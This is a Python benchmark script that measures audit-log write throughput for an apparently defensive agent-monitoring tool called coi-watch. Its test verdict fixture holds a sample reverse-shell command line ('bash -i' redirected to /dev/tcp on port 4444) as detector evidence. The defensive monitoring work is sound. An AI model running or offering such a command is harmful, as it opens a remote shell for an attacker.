"""Audit write throughput at the default durability.

    .venv/bin/python bench/bench_audit.py [--records 50000] [--dir /var/tmp]

Default durability is what ``coi-watch watch`` runs with: fsync on, event records batched
and made durable by the 0.2 s flusher, every verdict followed by ``await sync()`` (one
write + fsync, group-committed with the events before it). Prints, in records/s:

* ``append``: the synchronous cost on the event loop alone (serialise, redaction pre-check,
  seq + SHA-256 chain, buffer), for a plain ``proc.exec`` and for one whose argv carries a
  token (so the payload is decoded, redacted and re-encoded);
* ``durable``: wall-clock throughput until every record is on disk and fsynced, events
  with the flusher running and one verdict + sync per 1000 events;
* ``verdict+sync``: verdicts made durable one at a time (the response path), with the
  median latency of one ``sync``.

The directory defaults to a fresh one under the system temp dir; point ``--dir`` at the
disk the audit log will really live on, since fsync cost is the disk's.
"""

from __future__ import annotations

import argparse
import asyncio
import statistics
import tempfile
import time

from coi_watch.audit import AuditLog
from coi_watch.events import Ancestor, Fd, ProcExec
from coi_watch.verdicts import Severity, Verdict


def make_event(pid: int, secret: bool = False) -> ProcExec:
    argv = ("git", "push", "--token", "ghp_" + "x" * 36) if secret else \
        ("python3", "-m", "pytest", "-q", "tests/test_parser.py")
    return ProcExec(
        ts_ns=time.monotonic_ns(), wall_ns=time.time_ns(), container="coi-agent-1", pid=pid,
        ppid=pid - 1, uid=1000, comm=argv[0], exe=f"/usr/bin/{argv[0]}", argv=argv,
        cwd="/home/code/project",
        stdio=(Fd(fd=0, type="pipe", target="pipe:[4242]"),
               Fd(fd=1, type="pipe", target="pipe:[4243]"), Fd(fd=2, type="pipe",
                                                              target="pipe:[4243]")),
        ancestry=(Ancestor(pid=pid - 1, comm="bash", exe="/usr/bin/bash", cmdline="bash"),
                  Ancestor(pid=1, comm="init", exe="/sbin/init", cmdline="/sbin/init")),
    )


def make_verdict(i: int) -> Verdict:
    return Verdict(ts_ns=time.monotonic_ns(), wall_ns=time.time_ns(), container="coi-agent-1",
                   detector="reverse_shell", title="Reverse shell", severity=Severity.HIGH,
                   evidence={"cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
                   dedup_key=f"rs:{i}")


def bench_append(directory: str, n: int, secret: bool) -> float:
    log = AuditLog(directory, fsync=False)
    events = [make_event(i + 2, secret) for i in range(n)]
    start = time.process_time()
    for ev in events:
        log.event(ev)
    elapsed = time.process_time() - start
    log.flush_sync()
    return n / elapsed


async def bench_durable(directory: str, n: int) -> float:
    log = AuditLog(directory)
    flusher = asyncio.create_task(log.run_flusher())
    events = [make_event(i + 2) for i in range(n)]
    start = time.perf_counter()
    for i, ev in enumerate(events, 1):
        log.event(ev)
        if i % 1000 == 0:
            log.verdict(make_verdict(i))
            await log.sync("coi-agent-1")
        if i % 200 == 0:
            await asyncio.sleep(0)  # let the flusher run, as the bus would
    await log.sync()
    elapsed = time.perf_counter() - start
    flusher.cancel()
    await log.close()
    return (n + n // 1000) / elapsed


async def bench_verdicts(directory: str, n: int) -> tuple[float, float]:
    log = AuditLog(directory)
    latencies = []
    start = time.perf_counter()
    for i in range(n):
        t = time.perf_counter()
        log.verdict(make_verdict(i))
        await log.sync("coi-agent-1")
        latencies.append(time.perf_counter() - t)
    elapsed = time.perf_counter() - start
    await log.close()
    return n / elapsed, statistics.median(latencies) * 1000


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--records", type=int, default=50_000)
    parser.add_argument("--dir", default=None, help="parent directory for the test files")
    args = parser.parse_args()
    n = args.records
    with tempfile.TemporaryDirectory(dir=args.dir) as tmp:
        plain = bench_append(f"{tmp}/a", n, secret=False)
        secret = bench_append(f"{tmp}/b", n, secret=True)
        durable = asyncio.run(bench_durable(f"{tmp}/c", n))
        verdicts, median_ms = asyncio.run(bench_verdicts(f"{tmp}/d", min(n, 500)))
    print(f"append (event loop CPU), plain proc.exec:   {plain:10,.0f} records/s")
    print(f"append (event loop CPU), argv with a token: {secret:10,.0f} records/s")
    print(f"durable, default durability (fsync on):     {durable:10,.0f} records/s")
    print(f"verdict+sync, one at a time:                {verdicts:10,.0f} records/s "
          f"(median sync {median_ms:.2f} ms)")


if __name__ == "__main__":
    main()
